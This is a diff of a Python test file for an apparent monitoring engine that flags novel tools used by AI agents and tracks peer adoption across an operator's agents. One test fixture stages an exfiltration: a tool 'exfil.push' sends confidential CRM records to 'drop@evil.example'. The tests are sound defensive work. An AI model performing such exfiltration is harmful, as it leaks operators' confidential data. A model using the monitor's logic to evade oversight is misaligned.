@@ -142,8 +142,14 @@ def test_novelty_that_came_with_evidence_of_harm_never_settles_without_a_verdict
 
 # --------------------------------------------------------------------------- peers
 
-def test_a_tool_rolled_out_to_an_operators_agents_is_not_novel_for_the_next_of_them(model):
+def test_peers_adoption_is_off_by_default_so_every_worker_decides_as_replay_does(model):
     eng = engine(model)
+    for i, agent in enumerate("abc"):
+        eng.process(new_tool(T + 10 * i, agent))
+    assert not eng._adopted and not eng._peer_items
+
+def test_a_tool_rolled_out_to_an_operators_agents_is_not_novel_for_the_next_of_them(model):
+    eng = engine(model, peer_adopters=3)
     for i, agent in enumerate("abc"):  # three agents of op-1 take it up without harm
         assert alerted(eng.process(new_tool(T + 10 * i, agent)))
     # a fourth agent of op-1 never used it: not novel for it; an agent of op-2 still is
@@ -157,7 +163,7 @@ def test_a_tool_rolled_out_to_an_operators_agents_is_not_novel_for_the_next_of_t
 
 
 def test_peers_adoption_of_a_tool_that_came_with_evidence_of_harm_never_counts(model):
-    eng = engine(model)
+    eng = engine(model, peer_adopters=3)
     for i, agent in enumerate("abc"):
         eng.process(ev(T + 10 * i, agent, tool="exfil.push", action="send", resource="crm://accounts/1",
                        sensitivity="confidential", records=5, dests=["email:drop@evil.example"], task=f"x{agent}"))
